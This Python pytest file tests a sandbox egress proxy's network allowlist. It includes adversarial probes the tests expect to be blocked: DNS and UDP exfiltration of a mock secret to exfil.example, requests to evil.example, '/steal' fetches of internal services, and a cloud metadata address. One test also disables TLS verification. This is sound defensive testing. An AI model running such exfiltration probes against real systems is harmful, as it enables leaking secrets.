"""A sandbox whose task allows network to listed hosts (Harbor's `network_mode = "allowlist"`)
reaches them only through rollyard's egress proxy, on either backend (docker tests marked): a host off the list is refused, a direct
connection (to the allowed host itself, the host's loopback, any address) fails, and a name
built from data is never resolved (no DNS exfiltration). Entries are `host:port`; a bare host
means ports 80 and 443, never an address of this host, and the run's own Prefect and Dask ports
are refused even when named. The "allowed host" is an HTTP server this test runs on the host's
loopback; pypi.org is the real one where the machine reaches it."""

from __future__ import annotations

import contextlib
import http.server
import os
import socket
import threading
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from sandboxes import InvalidLimitsError, Limits, Sandbox, open_sandbox
from sandboxes.egress import (
    PROXY_PORT,
    RUN_DENIED_ENV,
    EgressPolicy,
    EgressProxy,
    HostPort,
    host_allowed,
    is_host_address,
)
from tasks_lib import TaskRefusedError, TaskValidationError, load_task

pytestmark = [pytest.mark.adversarial, pytest.mark.timeout(120)]

BODY = b"the allowed host's answer"


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.paths.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", str(len(BODY)))
        self.end_headers()
        self.wfile.write(BODY)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def allowed_server() -> Iterator[http.server.ThreadingHTTPServer]:
    """An HTTP server on the host's loopback, reached from a sandbox as `localhost`."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.paths = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(params=["bwrap", pytest.param("docker", marks=pytest.mark.docker)])
def allowlisted(
    request: pytest.FixtureRequest,
    sandbox_root: Path,
    workspace: Path,
    allowed_server: http.server.ThreadingHTTPServer,
) -> Iterator[Sandbox]:
    """A sandbox allowed `localhost:PORT` (the allowed server's) and pypi.org, on each backend
    (docker where an engine answers)."""
    if request.param == "docker":
        from sandboxes.docker_images import base_image, image_id, shared_client
        from sandboxes.errors import SandboxUnavailableError

        try:
            image_id(shared_client(), base_image())
        except SandboxUnavailableError as error:
            pytest.skip(str(error))
    port = allowed_server.server_address[1]
    limits = Limits(allowed_hosts=(f"localhost:{port}", "pypi.org"))
    with open_sandbox(workspace, backend=request.param, limits=limits) as sb:
        yield sb


def _python(sandbox: Sandbox, source: str) -> tuple[int, str]:
    result = sandbox.execute(["python3", "-c", source], timeout_s=60)
    return result.exit_code, (result.stdout + result.stderr).strip()


def _fetch(url: str) -> str:
    return f"""
import urllib.request, urllib.error
try:
    print(urllib.request.urlopen({url!r}, timeout=20).read().decode())
except urllib.error.HTTPError as error:
    print("HTTP", error.code, error.read().decode().strip())
"""


def test_allowlisted_host_is_reachable_through_the_proxy(
    allowlisted: Sandbox, allowed_server: http.server.ThreadingHTTPServer
) -> None:
    port = allowed_server.server_address[1]
    code, out = _python(allowlisted, _fetch(f"http://localhost:{port}/data"))
    assert code == 0 and out == BODY.decode(), out
    assert allowed_server.paths == ["/data"]  # type: ignore[attr-defined]


def test_host_off_the_allowlist_is_refused(
    allowlisted: Sandbox, allowed_server: http.server.ThreadingHTTPServer
) -> None:
    port = allowed_server.server_address[1]
    # The same server by its address, which is not on the list, and names that are not.
    for url in (f"http://127.0.0.1:{port}/x", f"http://evil.example:{port}/x",
                f"http://localhost.evil.example:{port}/x", "https://files.pythonhosted.org/"):  # fmt: skip
        code, out = _python(allowlisted, _fetch(url))
        if url.startswith("https"):
            assert code != 0 and "403" in out, out  # CONNECT refused: the tunnel never opens
        else:
            assert out.startswith("HTTP 403") and "not on the task's network allowlist" in out
    assert allowed_server.paths == []  # type: ignore[attr-defined]
    # A CONNECT by hand to a refused host gets 403 and nothing else.
    code, out = _python(
        allowlisted,
        f"""
import socket
s = socket.create_connection(("127.0.0.1", {PROXY_PORT}))
s.sendall(b"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(s.recv(200).split(b"\\r\\n")[0].decode())
""",
    )
    assert out == "HTTP/1.1 403 Forbidden", out


def test_direct_connections_without_the_proxy_fail(
    allowlisted: Sandbox, allowed_server: http.server.ThreadingHTTPServer
) -> None:
    port = allowed_server.server_address[1]
    # The host's own address on its default route: a real interface the sandbox must not reach.
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))
        host_address = probe.getsockname()[0]
    finally:
        probe.close()
    targets = [("127.0.0.1", port), (host_address, port), ("151.101.0.223", 443)]
    for address, target_port in targets:
        code, out = _python(
            allowlisted,
            f"""
import socket
try:
    socket.create_connection(({address!r}, {target_port}), timeout=5)
    print("CONNECTED")
except OSError as error:
    print("refused:", error)
""",
        )
        assert code == 0 and out.startswith("refused:"), (address, out)
    # An opener that ignores the proxy variables goes direct, and direct is no way out.
    code, out = _python(
        allowlisted,
        f"""
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
print(opener.open("http://localhost:{port}/direct", timeout=5).read())
""",
    )
    # (Refused on the sandbox's own loopback, or no address for `localhost` there at all.)
    assert code != 0 and "URLError" in out and BODY.decode() not in out, out
    assert allowed_server.paths == []  # type: ignore[attr-defined]


def test_dns_exfiltration_does_not_bypass_the_allowlist(
    allowlisted: Sandbox, sandbox_root: Path
) -> None:
    secret = "c2VjcmV0LXRva2Vu"
    # No resolver is reachable from inside: the lookup fails without a packet leaving.
    _code, out = _python(
        allowlisted,
        f"""
import socket
try:
    print(socket.getaddrinfo("{secret}.exfil.example", 443))
except OSError as error:
    print("unresolved:", error)
""",
    )
    assert out.startswith("unresolved:"), out
    # A UDP datagram to a listener on the host's loopback (where a local resolver would sit)
    # never arrives: the sandbox's loopback is its own.
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(1.0)
    try:
        port = listener.getsockname()[1]
        _python(
            allowlisted,
            f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    try:
        s.sendto(b"{secret}", ("127.0.0.1", {port}))
    except OSError:
        pass
""",
        )
        with pytest.raises(TimeoutError):
            listener.recvfrom(100)
    finally:
        listener.close()
    # Through the proxy the name is refused before it is resolved: the proxy looks up only
    # allowlisted names.
    _code, out = _python(allowlisted, _fetch(f"http://{secret}.exfil.example/"))
    assert out.startswith("HTTP 403"), out
    proxy = allowlisted._egress  # type: ignore[attr-defined]
    assert proxy is not None and all(secret not in name for name in proxy.resolved)
    assert (f"{secret}.exfil.example", 80, False) in proxy.decisions


def test_pypi_is_reachable_when_allowlisted(allowlisted: Sandbox) -> None:
    try:
        urllib.request.urlopen("https://pypi.org/simple/six/", timeout=10).close()
    except OSError as error:
        pytest.skip(f"this machine does not reach pypi.org: {error}")
    # Unverified TLS: trusting this machine's certificate chain (an intercepting CA the host
    # trusts and a container image need not) is the image's business; this test is the route.
    code, out = _python(
        allowlisted,
        """
import json, ssl, urllib.request
answer = urllib.request.urlopen("https://pypi.org/pypi/six/json", timeout=30,
                                context=ssl._create_unverified_context())
print(json.load(answer)["info"]["name"])
""",
    )
    assert code == 0 and out == "six", out


def test_bwrap_sandbox_without_allowed_hosts_has_no_proxy(
    sandbox_root: Path, workspace: Path
) -> None:
    with open_sandbox(workspace) as sb:
        _code, out = _python(
            sb,
            f"""
import os, socket
print(sorted(k for k in os.environ if "proxy" in k.lower()), os.path.exists("/run/rollyard"))
try:
    socket.create_connection(("127.0.0.1", {PROXY_PORT}), timeout=3)
except OSError as error:
    print("refused")
""",
        )
    assert out.splitlines() == ["[] False", "refused"], out


@pytest.mark.parametrize(
    ("host", "allowed"),
    [("pypi.org", True), ("PyPI.org.", True), ("evil-pypi.org", False), ("pypi.org.evil", False),
     ("files.example.com", True), ("example.com", False), ("a.b.example.com", True)],
)  # fmt: skip
def test_allowlist_matching(host: str, allowed: bool) -> None:
    assert host_allowed(host, ("pypi.org", "*.example.com")) is allowed


def _harbor_task(root: Path, environment: str, dockerfile: str = "FROM python:3.11-slim\n") -> Path:
    (root / "environment").mkdir(parents=True)
    (root / "environment" / "Dockerfile").write_text(dockerfile + "WORKDIR /app\n")
    (root / "tests").mkdir()
    (root / "tests" / "test.sh").write_text("echo 1 > /logs/verifier/reward.txt\n")
    (root / "instruction.md").write_text("Fetch the index.\n")
    (root / "task.toml").write_text(f'version = "1.0"\n\n[environment]\n{environment}\n')
    return root


def test_harbor_allowlist_task_loads_with_its_hosts_and_public_is_refused(tmp_path: Path) -> None:
    task = load_task(_harbor_task(tmp_path / "allow", 'network_mode = "allowlist"\n'
                                  'allowed_hosts = ["pypi.org", "files.pythonhosted.org"]'))  # fmt: skip
    assert task.limits.allowed_hosts == ("pypi.org", "files.pythonhosted.org")
    quiet = load_task(_harbor_task(tmp_path / "quiet", 'network_mode = "no-network"'))
    assert quiet.limits.allowed_hosts == ()
    with pytest.raises(TaskRefusedError, match="needs public network"):
        load_task(_harbor_task(tmp_path / "public", 'network_mode = "public"'))
    # In its own image (a Dockerfile the local environment does not reproduce) too.
    image = load_task(_harbor_task(tmp_path / "image", 'network_mode = "allowlist"\n'
                                   'allowed_hosts = ["pypi.org"]',
                                   "FROM debian:bookworm\nRUN apt-get update\n"))  # fmt: skip
    assert image.container is not None and image.limits.allowed_hosts == ("pypi.org",)


# -- ports: host:port entries, a bare host's 80/443, this host's own addresses, the run's services


class _V6Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6


@contextlib.contextmanager
def _server(address: str, port: int = 0) -> Iterator[http.server.ThreadingHTTPServer]:
    """An HTTP server on `address:port` (skips the test where it cannot be bound)."""
    kind = _V6Server if ":" in address else http.server.ThreadingHTTPServer
    try:
        server = kind((address, port), _Handler)
    except OSError as error:
        pytest.skip(f"cannot bind {address}:{port} here: {error}")
    server.paths = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def _port(server: http.server.ThreadingHTTPServer) -> int:
    return int(server.server_address[1])


def _fetch_all(sandbox: Sandbox, urls: list[str]) -> list[str]:
    """What a fetch of each URL through the proxy printed (the body, or `HTTP <code> <text>`)."""
    code, out = _python(sandbox, "\n".join(_fetch(url) for url in urls))
    assert code == 0, out
    return out.splitlines()


def _connect_line(sandbox: Sandbox, target: str) -> str:
    """The proxy's status line for a hand-made `CONNECT target`."""
    _code, out = _python(
        sandbox,
        f"""
import socket
s = socket.create_connection(("127.0.0.1", {PROXY_PORT}), timeout=20)
s.sendall(b"CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(s.recv(200).split(b"\\r\\n")[0].decode())
""",
    )
    return out


def _answering(*addresses: str) -> Callable[[str, int], list[str]]:
    """A resolver whose every answer is `addresses` (what a name's owner may make DNS say)."""
    return lambda host, port: list(addresses)


# TEST-NET-1: a documentation address no interface has, standing for a public host.
_public = _answering("192.0.2.10")


@pytest.mark.parametrize(
    ("host", "port", "admitted"),
    [("pypi.org", 80, True), ("pypi.org", 443, True), ("pypi.org", 8080, False),
     ("pypi.org", 22, False), ("a.example.com", 443, True), ("a.example.com", 8443, False),
     ("files.example.org", 8443, True), ("files.example.org", 443, False)],
)  # fmt: skip
def test_bare_host_means_ports_80_and_443_only(host: str, port: int, admitted: bool) -> None:
    assert not is_host_address("192.0.2.10")
    policy = EgressPolicy.of(["pypi.org", "*.example.com", "files.example.org:8443"])
    addresses, refusal = policy.decide(host, port, resolve=_public)
    assert (addresses == ["192.0.2.10"]) is admitted, refusal
    assert (
        host_allowed(host, ["pypi.org", "*.example.com", "files.example.org:8443"], port)
        is admitted
    )


def test_a_listed_name_that_resolves_to_this_host_is_refused() -> None:
    # DNS answers are the name owner's: `pypi.org` (bare) turning into 127.0.0.1 or an address
    # of this host's own interfaces must not open the host's port 443.
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))
        host_address = probe.getsockname()[0]
    finally:
        probe.close()
    policy = EgressPolicy.of(["pypi.org"])
    # (169.254.169.254: a cloud's metadata server, on the host's own link.)
    own = ("127.0.0.1", "127.8.9.10", "0.0.0.0", "::1", "::ffff:127.0.0.1", "169.254.169.254",
           host_address)  # fmt: skip
    for local in own:
        addresses, refusal = policy.decide("pypi.org", 443, resolve=_answering(local))
        assert addresses == [] and refusal and "this host's own address" in refusal, local
    # A mixed answer keeps only what is not this host.
    mixed = policy.decide("pypi.org", 443, resolve=_answering("127.0.0.1", "192.0.2.10"))
    assert mixed == (["192.0.2.10"], None)
    # This host's interface address as a bare entry opens no port of it either.
    assert EgressPolicy.of([host_address]).decide(host_address, 80)[0] == []


def test_explicit_loopback_port_reaches_that_port_and_no_other(
    sandbox_root: Path, workspace: Path
) -> None:
    with _server("127.0.0.1") as named, _server("127.0.0.1") as other:
        port, other_port = _port(named), _port(other)
        limits = Limits(allowed_hosts=(f"127.0.0.1:{port}",))
        with open_sandbox(workspace, limits=limits) as sb:
            lines = _fetch_all(sb, [f"http://127.0.0.1:{port}/named",
                                    f"http://127.0.0.1:{other_port}/other",
                                    f"http://localhost:{port}/by-name",
                                    "http://127.0.0.1/default-port"])  # fmt: skip
            assert lines[0] == BODY.decode(), lines
            assert all(line.startswith("HTTP 403") for line in lines[1:]), lines
            assert _connect_line(sb, f"127.0.0.1:{port}") == "HTTP/1.1 200 Connection established"
            assert _connect_line(sb, f"127.0.0.1:{other_port}") == "HTTP/1.1 403 Forbidden"
        assert named.paths == ["/named"]  # type: ignore[attr-defined]
        assert other.paths == []  # type: ignore[attr-defined]


def test_bare_loopback_opens_no_loopback_port(sandbox_root: Path, workspace: Path) -> None:
    # A real listener on a loopback address's port 80 (a bare entry's own port; root binds it)
    # and one on an ordinary port: bare `127.0.0.2`, `127.0.0.1`, `localhost` reach neither.
    with _server("127.0.0.2", 80) as web, _server("127.0.0.1") as service:
        port = _port(service)
        bare = Limits(allowed_hosts=("127.0.0.2", "127.0.0.1", "localhost", "[::1]"))
        with open_sandbox(workspace, limits=bare) as sb:
            lines = _fetch_all(sb, ["http://127.0.0.2/web", "http://localhost/web",
                                    "http://127.0.0.1/web", f"http://127.0.0.1:{port}/x",
                                    f"http://localhost:{port}/x", "http://[::1]/web"])  # fmt: skip
            assert all(line.startswith("HTTP 403") for line in lines), lines
            assert "this host's own address" in lines[0], lines
            assert _connect_line(sb, "127.0.0.2:443") == "HTTP/1.1 403 Forbidden"
        assert web.paths == [] and service.paths == []  # type: ignore[attr-defined]
        # The same listener named with its port is reached: the refusal above was the rule.
        with open_sandbox(workspace, limits=Limits(allowed_hosts=("127.0.0.2:80",))) as sb:
            assert _fetch_all(sb, ["http://127.0.0.2/web"]) == [BODY.decode()]
        assert web.paths == ["/web"]  # type: ignore[attr-defined]


def test_ipv6_loopback_entries_name_their_port(sandbox_root: Path, workspace: Path) -> None:
    with _server("::1") as named, _server("::1") as other:
        port, other_port = _port(named), _port(other)
        limits = Limits(allowed_hosts=(f"[::1]:{port}",))
        with open_sandbox(workspace, limits=limits) as sb:
            lines = _fetch_all(sb, [f"http://[::1]:{port}/six", f"http://[::1]:{other_port}/x",
                                    f"http://[0:0::1]:{port}/same", f"http://127.0.0.1:{port}/x"])  # fmt: skip
        assert lines[0] == BODY.decode() and lines[2] == BODY.decode(), lines
        assert lines[1].startswith("HTTP 403") and lines[3].startswith("HTTP 403"), lines
        assert named.paths == ["/six", "/same"]  # type: ignore[attr-defined]
        assert other.paths == []  # type: ignore[attr-defined]


def test_run_services_are_refused_even_when_named(
    sandbox_root: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Stand-ins for the run's Prefect API and Dask dashboard, denied as the run denies them.
    with _server("127.0.0.1") as api, _server("127.0.0.1") as dashboard:
        api_port, dashboard_port = _port(api), _port(dashboard)
        monkeypatch.setenv(RUN_DENIED_ENV, f"127.0.0.1:{api_port},localhost:{dashboard_port}")
        named = (f"127.0.0.1:{api_port}", f"localhost:{api_port}", f"127.0.0.2:{api_port}",
                 f"127.0.0.1:{dashboard_port}", f"[::1]:{dashboard_port}")  # fmt: skip
        with open_sandbox(workspace, limits=Limits(allowed_hosts=named)) as sb:
            lines = _fetch_all(sb, [f"http://{entry}/steal" for entry in named])
            assert all("one of the run's own services" in line for line in lines), lines
            assert _connect_line(sb, f"127.0.0.1:{api_port}") == "HTTP/1.1 403 Forbidden"
        assert api.paths == [] and dashboard.paths == []  # type: ignore[attr-defined]


def _worker_decisions(named: tuple[str, ...], socket_dir: str) -> list[str | None]:
    """On a Dask worker: the refusal an egress proxy started there gives each named endpoint."""
    proxy = EgressProxy(Path(socket_dir) / f"w{os.getpid()}.sock", named)
    try:
        return [proxy.policy.decide(*_host_and_port(entry))[1] for entry in named]
    finally:
        proxy.close()


def _host_and_port(entry: str) -> tuple[str, int]:
    parsed = HostPort.parse(entry)
    assert parsed.port is not None
    return parsed.host, parsed.port


def test_the_runs_prefect_and_dask_ports_are_refused_on_its_workers(tmp_path: Path) -> None:
    from distributed import Client

    from flows.run_services import run_services_refused
    from flows.runtime import local_cluster

    with _server("127.0.0.1") as api, local_cluster(1, None) as cluster:
        api_url = f"http://127.0.0.1:{_port(api)}/api"
        with (
            run_services_refused(api_url, cluster) as endpoints,
            Client(cluster.scheduler_address, timeout="60s") as client,
        ):
            scheduler = cluster.scheduler_address.removeprefix("tcp://")
            assert endpoints[:2] == (f"127.0.0.1:{_port(api)}", scheduler), endpoints
            assert len(endpoints) == 2 + (cluster.dashboard_link is not None)
            # Named every way a task could: the endpoint itself and `localhost` at its port.
            named = (*endpoints, *(f"localhost:{entry.rsplit(':', 1)[1]}" for entry in endpoints))
            here = _worker_decisions(named, str(tmp_path))
            on_worker = client.run(_worker_decisions, named, str(tmp_path))
        assert os.environ.get(RUN_DENIED_ENV) is None  # restored after the run
    for refusals in [here, *on_worker.values()]:
        assert all(r and "one of the run's own services" in r for r in refusals), refusals


@pytest.mark.parametrize(
    "entry", ["pypi.org:0", "pypi.org:70000", "host:abc", "", "pypi.org:", "::1:8080", "[::1",
              "a b", "user@pypi.org"],
)  # fmt: skip
def test_bad_allowlist_entries_are_refused_at_task_load(tmp_path: Path, entry: str) -> None:
    root = _harbor_task(tmp_path / "task", 'network_mode = "allowlist"\n'
                        f'allowed_hosts = ["pypi.org", {entry!r}]'.replace("'", '"'))  # fmt: skip
    with pytest.raises(TaskValidationError) as caught:
        load_task(root)
    [issue] = caught.value.issues
    line = str(issue)
    assert issue.file == "task.toml" and issue.field == "environment.allowed_hosts", line
    assert "\n" not in line and repr(entry) in line and "host:port" in line, line
    assert str(root) in str(caught.value)
    with pytest.raises(InvalidLimitsError, match=r"Limits\.allowed_hosts"):
        Limits(allowed_hosts=(entry,))


def test_allowlist_entries_load_in_canonical_form(tmp_path: Path) -> None:
    task = load_task(_harbor_task(tmp_path / "t", 'network_mode = "allowlist"\n'
                                  'allowed_hosts = ["PyPI.org.:443", "[0:0::1]:8080", "*.Example.com"]'))  # fmt: skip
    assert task.limits.allowed_hosts == ("pypi.org:443", "[::1]:8080", "*.example.com")


def test_a_bad_run_deny_set_stops_the_sandbox_from_opening(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Failing open: a deny set that does not parse must not leave the run's services reachable.
    for bad in ("127.0.0.1", "localhost:http", "127.0.0.1:0"):
        monkeypatch.setenv(RUN_DENIED_ENV, bad)
        with pytest.raises(ValueError, match=RUN_DENIED_ENV):
            EgressProxy(tmp_path / "egress.sock", ["pypi.org"])
        assert not (tmp_path / "egress.sock").exists()
